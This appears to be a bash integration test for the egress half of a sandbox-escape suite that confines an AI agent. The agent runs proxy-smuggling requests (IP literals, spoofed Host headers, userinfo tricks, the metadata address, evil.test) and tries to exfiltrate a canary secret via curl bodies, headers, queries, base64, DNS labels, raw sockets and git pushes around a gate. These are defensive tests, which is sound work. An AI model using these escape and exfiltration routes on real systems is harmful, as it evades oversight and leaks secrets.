#!/usr/bin/env bash
# The sandbox-escape suite, egress half (docs/security.md, "Sandbox
# escape"): from inside the agent of a real bottle, the proxy's allowlist
# holds against IP literals and odd spellings; a git push straight to the
# forge is refused by egress while the push through the gate arrives; the
# canary leaves by no channel (HTTP body, header, query, a host name, a git
# push, DNS, a bare socket).  Each refusal has its control: the same channel
# with an ordinary value gets through.  Set-up: tests/integration/escape-lib.sh.
. "$(dirname "$0")/escape-lib.sh"

A=$TEST_SCRATCH/a
FORGE_URL=https://host.containers.internal:$FORGE_PORT/acme/app.git
SINK_URL=https://host.containers.internal:$SINK_PORT

test_expect_success 'set up the forge, the sink, the listeners and test hosts; start a bottle' '
	host_objects >"$TEST_SCRATCH/objects.before" &&
	test ! -s "$TEST_SCRATCH/objects.before" &&
	pki_create && forge_start && manifests_write &&
	servers_run sink -- --https "0.0.0.0:$SINK_PORT" --cert "$PKI/host.crt" --key "$PKI/host.key" &&
	servers_run host -- --tcp "0.0.0.0:$HOST_PORT" --udp "0.0.0.0:$HOST_PORT" --dns 0.0.0.0:53 &&
	netns_host "${TAG}i" "$INTERNET" &&
	servers_run internet ip netns exec "${TAG}i" -- --tcp "$INTERNET:80" --tcp "$INTERNET:443" \
		--udp "$INTERNET:$HOST_PORT" --dns "$INTERNET:53" &&
	netns_host "${TAG}m" "$METADATA" &&
	servers_run metadata ip netns exec "${TAG}m" -- --tcp "$METADATA:80" &&
	bottle_start "$A" && bottle_record "$A" &&
	agent_run "$A" <<-"EOF" >canary.out &&
	echo "$BOTTLE_CANARY"
	EOF
	grep -qE "^[0-9a-f]{64}$" canary.out && cp canary.out "$TEST_SCRATCH/canary"
'

SLUG_A=$(cat "$A/slug" 2>/dev/null)
CANARY=$(cat "$TEST_SCRATCH/canary" 2>/dev/null)
EGRESS_GATEWAY=$(ip -o -4 addr show dev "$(bridge_of "bottle-$SLUG_A-egress" 2>/dev/null)" 2>/dev/null |
	awk '{ sub("/.*", "", $4); print $4 }')

test_expect_success 'the allowlist: the allowed path passes, another path is 403' '
	agent_run "$A" <<-EOF >agent.out &&
	curl -sS -o /dev/null -w "allowed %{http_code}\n" $SINK_URL/allowed/control-1
	curl -sS -o /dev/null -w "other %{http_code}\n" $SINK_URL/other/denied-1
	EOF
	cat agent.out &&
	grep -qx "allowed 200" agent.out && grep -qx "other 403" agent.out &&
	grep -q "/allowed/control-1" "$LOGS/sink" &&
	! grep -q "denied-1" "$LOGS/sink"
'

test_expect_success 'the allowlist holds against IP literals and odd spellings of the allowed host' '
	test -n "$EGRESS_GATEWAY" &&
	p=$SINK_PORT &&
	cat >"$A/proxy-cases" <<-EOF &&
	CONNECT host.containers.internal:$p HTTP/1.1|Host: host.containers.internal:$p
	CONNECT $EGRESS_GATEWAY:$p HTTP/1.1|Host: $EGRESS_GATEWAY:$p
	CONNECT 192.0.2.2:$p HTTP/1.1|Host: 192.0.2.2:$p
	CONNECT [::ffff:$EGRESS_GATEWAY]:$p HTTP/1.1|Host: [::ffff:$EGRESS_GATEWAY]:$p
	CONNECT host.containers.internal.:$p HTTP/1.1|Host: host.containers.internal.:$p
	CONNECT host%2econtainers.internal:$p HTTP/1.1|Host: host%2econtainers.internal:$p
	CONNECT host.containers.internal.evil.test:$p HTTP/1.1|Host: host.containers.internal.evil.test:$p
	CONNECT evil.test:$p HTTP/1.1|Host: host.containers.internal:$p
	CONNECT host.containers.internal:$HOST_PORT HTTP/1.1|Host: host.containers.internal:$HOST_PORT
	CONNECT host.containers.internal:$p@evil.test:443 HTTP/1.1|Host: evil.test:443
	CONNECT $METADATA:80 HTTP/1.1|Host: $METADATA:80
	CONNECT $INTERNET:443 HTTP/1.1|Host: $INTERNET:443
	GET http://evil.test:$p/allowed/odd-1 HTTP/1.1|Host: host.containers.internal:$p
	GET http://host.containers.internal:$p@evil.test/allowed/odd-2 HTTP/1.1|Host: evil.test
	GET http://$EGRESS_GATEWAY:$p/allowed/odd-3 HTTP/1.1|Host: $EGRESS_GATEWAY:$p
	GET http://$METADATA/latest/meta-data/ HTTP/1.1|Host: $METADATA
	GET http://$INTERNET/ HTTP/1.1|Host: $INTERNET
	EOF
	agent_run "$A" <<-"EOF" >agent.out &&
	while IFS="|" read -r line field; do
		/usr/bin/python3 probe.py proxy sidecar 9099 "$line" "$field"
	done <proxy-cases
	EOF
	cat agent.out &&
	test "$(grep -c "^proxy " agent.out)" = "$(wc -l <"$A/proxy-cases")" &&
	# The control: the allowed host and port open a tunnel.
	grep -qx "proxy CONNECT host.containers.internal:$p HTTP/1.1 -> 200" agent.out &&
	# Every other case is refused: 403, or 400 for a request egress
	# cannot parse; nothing reached a test host or the sink.
	test "$(grep -c -- "-> 40[03]$" agent.out)" = "$(($(wc -l <"$A/proxy-cases") - 1))" &&
	! grep -q odd- "$LOGS/sink" &&
	! test -s "$LOGS/internet" && ! test -s "$LOGS/metadata" && ! test -s "$LOGS/host"
'

test_expect_success 'a push straight to the forge is refused by egress; the push through the gate arrives' '
	agent_run "$A" <<-EOF >agent.out &&
	set -x
	git clone -q $FORGE_URL app 2>&1; echo "gate clone rc=\$?"
	cd app && echo gate >gate.txt && git add gate.txt && git commit -qm "through the gate" &&
	git push origin HEAD:main 2>&1; echo "gate push rc=\$?"
	# Around the gate: no insteadOf rules, so git goes to egress, where the
	# forge is routed for fetches (egress injects the credential).
	GIT_CONFIG_COUNT=0 git ls-remote $FORGE_URL 2>&1; echo "direct ls-remote rc=\$?"
	echo direct >direct.txt && git add direct.txt && git commit -qm direct
	GIT_CONFIG_COUNT=0 git push $FORGE_URL HEAD:refs/heads/direct 2>&1; echo "direct push rc=\$?"
	# A spelling the rules do not rewrite (they match case-sensitively).
	git push $(echo "$FORGE_URL" | sed s/host.containers.internal/HOST.containers.internal/) \
		HEAD:refs/heads/upper 2>&1; echo "upper push rc=\$?"
	GIT_CONFIG_COUNT=0 NO_PROXY="*" no_proxy="*" git -c http.lowSpeedTime=5 push $FORGE_URL HEAD:refs/heads/noproxy 2>&1
	echo "noproxy push rc=\$?"
	EOF
	cat agent.out "$LOGS/forge" &&
	grep -qx "gate clone rc=0" agent.out && grep -qx "gate push rc=0" agent.out &&
	git -C "$TEST_SCRATCH/forge/acme/app.git" log --format=%s main >forge.log &&
	grep -qx "through the gate" forge.log &&
	# The control: the forge is reachable through egress for a fetch.
	grep -qx "direct ls-remote rc=0" agent.out &&
	grep -q "refs/heads/main" agent.out &&
	grep -q "^direct push rc=[1-9]" agent.out && grep -q "403" agent.out &&
	grep -q "^upper push rc=[1-9]" agent.out &&
	test "$(grep -c "egress: git pushes (git-receive-pack) never go out directly" agent.out)" = 2 &&
	grep -q "^noproxy push rc=[1-9]" agent.out &&
	! git -C "$TEST_SCRATCH/forge/acme/app.git" rev-parse -q --verify refs/heads/direct &&
	! git -C "$TEST_SCRATCH/forge/acme/app.git" rev-parse -q --verify refs/heads/upper &&
	! git -C "$TEST_SCRATCH/forge/acme/app.git" rev-parse -q --verify refs/heads/noproxy &&
	# No receive-pack request from anyone but the gate (which has the token).
	! grep "receive-pack .* \(none\|bad\)" "$LOGS/forge" &&
	grep -q "^POST /acme/app.git/git-receive-pack good" "$LOGS/forge" &&
	test "$(grep -c "^POST /acme/app.git/git-receive-pack" "$LOGS/forge")" = 1
'

test_expect_success 'the canary leaves through no HTTP body, header, query or host name; ordinary values do' '
	in_netns "bottle-$SLUG_A-bundle" iptables -I OUTPUT -p udp --dport 53 -j DROP &&
	in_netns "bottle-$SLUG_A-bundle" iptables -I OUTPUT -p tcp --dport 53 -j DROP &&
	agent_run "$A" <<-EOF >agent.out &&
	for kind in ordinary canary base64; do
		case \$kind in
		ordinary) value=ordinary-value-\$\$ ;;
		canary) value=\$BOTTLE_CANARY ;;
		base64) value=\$(printf %s \$BOTTLE_CANARY | base64 -w0) ;;
		esac
		curl -s -o /dev/null -w "\$kind body %{http_code}\n" --data "x=\$value" $SINK_URL/allowed/body
		curl -s -o /dev/null -w "\$kind header %{http_code}\n" -H "X-Value: \$value" $SINK_URL/allowed/header
		curl -s -o /dev/null -w "\$kind query %{http_code}\n" "$SINK_URL/allowed/query?v=\$value"
		curl -s -o /dev/null -w "\$kind path %{http_code}\n" "$SINK_URL/allowed/\$value"
	done
	# A DNS label holds at most 63 bytes: the canary is two labels.
	labels=\$(echo \$BOTTLE_CANARY | cut -c1-32).\$(echo \$BOTTLE_CANARY | cut -c33-)
	curl -s -o /dev/null -w "host %{http_connect}\n" https://\$labels.host.containers.internal:$SINK_PORT/allowed/
	curl -s -o /dev/null -w "host %{http_connect}\n" https://\$labels.example.org/
	echo done
	EOF
	cat agent.out &&
	in_netns "bottle-$SLUG_A-bundle" iptables -L OUTPUT -v -x -n >dns-counter.out &&
	cat dns-counter.out &&
	test "$(awk "/dpt:53/ { n += \$1 } END { print n + 0 }" dns-counter.out)" = 0 &&
	# The control: the first round (an ordinary value) passed, each way.
	test "$(grep -c "^ordinary [a-z]* 200$" agent.out)" = 4 &&
	test "$(grep -c "ordinary-value" "$LOGS/sink")" = 4 &&
	test "$(grep -c "^canary [a-z]* 403$" agent.out)" = 4 &&
	test "$(grep -c "^base64 [a-z]* 403$" agent.out)" = 4 &&
	test "$(grep -c "^host 403$" agent.out)" = 2 &&
	! grep -q -e "$CANARY" -e "${CANARY:0:32}" -e "${CANARY:32}" "$LOGS/sink" &&
	! grep -q "$(printf %s "$CANARY" | base64 -w0)" "$LOGS/sink" &&
	! grep -rq "$CANARY" "$QUEUE/$SLUG_A/pending" "$QUEUE/$SLUG_A/processed" 2>/dev/null
'

test_expect_success 'the canary leaves by no DNS query, no bare TCP or UDP: the host gets the same probes' '
	cat >"$A/canary-targets" <<-EOF &&
	dns 192.0.2.2 udp VALUE.leak.escape.test
	dns 192.0.2.2 tcp VALUE.leak.escape.test
	dns $EGRESS_GATEWAY udp VALUE.leak.escape.test
	dns $INTERNET udp VALUE.leak.escape.test
	dns $INTERNET tcp VALUE.leak.escape.test
	tcp 192.0.2.2 $HOST_PORT VALUE
	udp 192.0.2.2 $HOST_PORT VALUE
	tcp $INTERNET 443 VALUE
	udp $INTERNET $HOST_PORT VALUE
	tcp $METADATA 80 VALUE
	EOF
	sed "s/VALUE/control/" "$A/canary-targets" | while read -r line; do $PROBE $line; done >control.out &&
	cat control.out && all_got_through control.out &&
	agent_run "$A" <<-"EOF" >agent.out &&
	# A DNS label holds at most 63 bytes: the canary is two labels.
	labels=$(echo $BOTTLE_CANARY | cut -c1-32).$(echo $BOTTLE_CANARY | cut -c33-)
	sed "s/VALUE/$labels/" canary-targets | while read -r line; do
		/usr/bin/python3 probe.py $line
	done
	/usr/bin/python3 probe.py resolvers "$labels.leak.escape.test"
	EOF
	cat agent.out &&
	test "$(grep -c "^[dtu][ndc][sp] " agent.out)" = 10 &&
	grep -q "^getaddrinfo .* failed" agent.out &&
	none_got_through agent.out &&
	! grep -q -e "${CANARY:0:32}" -e "${CANARY:32}" "$LOGS/host" "$LOGS/internet" "$LOGS/metadata"
'

test_expect_success 'the canary leaves by no git push: the gate refuses it, the forge never has it' '
	agent_run "$A" <<-"EOF" >agent.out &&
	cd app && git reset -q --hard origin/main &&
	echo "token = $BOTTLE_CANARY" >leak.txt && git add leak.txt && git commit -qm leak &&
	git push origin HEAD:main 2>&1; echo "push rc=$?"
	git push origin HEAD:refs/heads/leak 2>&1; echo "branch push rc=$?"
	EOF
	cat agent.out &&
	grep -q "^push rc=[1-9]" agent.out && grep -q "^branch push rc=[1-9]" agent.out &&
	grep -q "^remote: " agent.out &&
	! grep -q "$CANARY" agent.out &&
	forge=$TEST_SCRATCH/forge/acme/app.git &&
	! git -C "$forge" rev-parse -q --verify refs/heads/leak &&
	test "$(git -C "$forge" log -1 --format=%s main)" = "through the gate" &&
	! git -C "$forge" log --all -p | grep -q "$CANARY" &&
	! grep -rq "$CANARY" "$QUEUE/$SLUG_A/pending" "$QUEUE/$SLUG_A/processed" 2>/dev/null
'

test_expect_success 'teardown leaves no container, network, netns, engine file or temp file behind' '
	bottle_end "$A" && cat "$A.err" &&
	servers_stop &&
	netns_remove "${TAG}i" "$INTERNET" && netns_remove "${TAG}m" "$METADATA" &&
	wait_for 10 processes_none &&
	host_objects >objects.after &&
	diff -u "$TEST_SCRATCH/objects.before" objects.after &&
	leftovers_none "$SLUG_A" &&
	! grep -q "$CANARY" "$QUEUE/$SLUG_A/bundle.log"
'

test_done
